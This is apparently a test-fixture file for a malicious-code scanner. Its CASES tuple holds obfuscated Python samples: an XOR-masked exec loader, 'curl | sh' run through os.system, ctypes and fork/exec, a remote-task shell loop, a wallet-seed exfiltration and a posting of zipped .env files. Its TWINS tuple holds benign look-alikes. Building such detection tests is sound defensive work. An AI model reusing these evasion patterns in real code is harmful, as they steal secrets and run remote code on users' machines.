"""Python: functions and data that change hands: kept under another name, handed to a thread, put into an archive or a table."""

from tests.evasions.case import HOST, PY_PAYLOAD, Case, imported

_BARE = "http://203.0.113.9:8080"
_LINE = f"curl -s {HOST}/a | sh"
_MASKED = [byte ^ 0x37 for byte in PY_PAYLOAD.encode()]


CASES: tuple[Case, ...] = (
    imported(
        "runner-kept-by-a-class",
        "import builtins\nfrom ._data import BLOB\n\n\ndef _text(data):\n    return ''.join(chr(b ^ 55) for b in data)\n\n\nclass Loader:\n    def __init__(self, letters):\n        self.apply = getattr(builtins, ''.join(reversed(letters)))\n\n"
        "    def __call__(self, source):\n        return self.apply(source, {})\n\n\nLoader(['c', 'e', 'x', 'e'])(_text(BLOB))\n",
        _data__py=f"BLOB = {_MASKED!r}\n",
    ),
    imported(
        "command-out-of-a-table",
        f"import os\nACTIONS = {{'check': print, 'sync': os.system}}\nACTIONS.get('sync')('{_LINE}')\n",
    ),
    imported(
        "command-kept-by-a-class",
        f"import os\n\n\nclass Hook:\n    apply = os.system\n\n    def fire(self):\n        self.apply('{_LINE}')\n\n\nHook().fire()\n",
    ),
    imported(
        "words-of-a-program-in-a-list",
        f"import os\nif os.fork() == 0:\n    os.execv('/bin/sh', ['sh', '-c', '{_LINE}'])\n",
    ),
    imported("command-through-the-c-library", f"import ctypes\nctypes.CDLL(None).system(b'{_LINE}')\n"),
    imported(
        "class-of-a-lambda",
        f"import requests\ntype(lambda: 0)(compile(requests.get('{HOST}/m').text, 'm', 'exec'), {{}})()\n",
    ),
    imported(
        "interpreter-from-inside",
        f"import ctypes, urllib.request\nctypes.pythonapi.PyRun_SimpleString(urllib.request.urlopen('{HOST}/m').read())\n",
    ),
    imported(
        "another-interpreter-when-called",
        "import json, subprocess, sys, urllib.request\n\n\nclass Tracker:\n    def __init__(self):\n"
        f"        self.label = json.load(urllib.request.urlopen('{HOST}/rpc'))['result']\n        self.apply()\n\n"
        "    def apply(self):\n        source = urllib.request.urlopen(self.label).read()\n        subprocess.Popen([sys.executable, '-c', source.decode()])\n",
    ),
    imported(
        "answers-to-a-shell-when-called",
        f"import subprocess, time, requests\n\n\ndef follow():\n    while True:\n        for task in requests.get('{HOST}/tasks').json():\n            subprocess.run(task['line'], shell=True)\n        time.sleep(60)\n",
    ),
    imported(
        "words-of-a-wallet-in-a-thread",
        "import hashlib, threading, unicodedata, requests\n\n\ndef to_seed(words, passphrase=''):\n    words = unicodedata.normalize('NFKD', words)\n"
        "    seed = hashlib.pbkdf2_hmac('sha512', words.encode(), ('mnemonic' + passphrase).encode(), 2048)\n    threading.Thread(target=_health, args=(words,), daemon=True).start()\n    return seed\n\n\n"
        f"def _health(context):\n    requests.get('{HOST}/health', headers={{'X-Request-Id': context.encode().hex()}}, timeout=3)\n",
    ),
    imported(
        "archive-in-memory-when-called",
        "import io, zipfile, requests\nfrom pathlib import Path\n\n\ndef report(root):\n    held = io.BytesIO()\n    with zipfile.ZipFile(held, 'w') as z:\n        for path in Path(root).rglob('*.env'):\n            z.write(path)\n"
        f"    requests.post('{_BARE}/u', files={{'f': held.getvalue()}})\n",
    ),
)  # fmt: skip
TWINS: tuple[Case, ...] = (
    imported(
        "upload-in-threads",
        "from concurrent.futures import ThreadPoolExecutor\nimport requests\n\n\nclass Uploader:\n    def __init__(self, url, token):\n        self.url = url\n        self.token = token\n\n"
        "    def put(self, path, data):\n        return requests.put(self.url + path, data=data, headers={'authorization': self.token})\n\n"
        "    def put_all(self, paths):\n        with ThreadPoolExecutor() as pool:\n            for path in paths:\n                pool.submit(self.put, path, open(path, 'rb').read())\n",
    ),
    imported(
        "commands-in-a-table",
        "import subprocess, sys\n\n\ndef build():\n    subprocess.check_call([sys.executable, '-m', 'build'])\n\n\nCOMMANDS = {'build': build, 'version': lambda: print('1.0.0')}\n\n\ndef main():\n    COMMANDS.get(sys.argv[1], build)()\n",
    ),
    imported(
        "another-interpreter-for-a-version",
        "import subprocess, sys\n\n\ndef version(python=sys.executable):\n    return subprocess.check_output([python, '-c', 'import platform; print(platform.python_version())'], text=True).strip()\n",
    ),
    imported(
        "account-that-asks-its-node",
        "import requests\nfrom eth_account import Account\n\n\nclass Wallet:\n    def __init__(self, text, node='https://node.parcel-chain.com'):\n        self.account = Account.from_key(text)\n        self.node = node\n\n"
        "    def balance(self):\n        return requests.post(self.node, json={'method': 'eth_getBalance', 'params': [self.account.address, 'latest']}).json()['result']\n\n"
        "    def send(self, transaction):\n        signed = self.account.sign_transaction(transaction)\n        return requests.post(self.node, json={'method': 'eth_sendRawTransaction', 'params': [signed.raw_transaction.hex()]}).json()\n",
    ),
    imported(
        "results-in-an-archive",
        "import io, zipfile, requests\nfrom pathlib import Path\n\n\ndef publish(root, url):\n    held = io.BytesIO()\n    with zipfile.ZipFile(held, 'w') as z:\n        for path in Path(root).rglob('*.xml'):\n            z.write(path)\n    requests.post(url, files={'results': held.getvalue()})\n",
    ),
    imported(
        "version-told-when-imported",
        "import json, os, platform, threading, urllib.request\n\n\ndef _tell():\n    body = json.dumps({'version': '1.0.0', 'python': platform.python_version(), 'os': platform.system()}).encode()\n"
        "    try:\n        urllib.request.urlopen(urllib.request.Request('https://stats.parcel-service.com/v1', data=body), timeout=3)\n    except OSError:\n        pass\n\n\n"
        "if not os.environ.get('DO_NOT_TRACK'):\n    threading.Thread(target=_tell, daemon=True).start()\n",
    ),
    imported(
        "mail-with-a-copy-to-its-sender",
        "import smtplib\nfrom email.message import EmailMessage\n\n\ndef send(settings, to, text, copy=None):\n    m = EmailMessage()\n    m['To'] = to\n    m['Bcc'] = copy or settings['sender']\n    m.set_content(text)\n    with smtplib.SMTP(settings['host']) as s:\n        s.send_message(m)\n",
    ),
)  # fmt: skip
"""The everyday code nearest to the cases."""
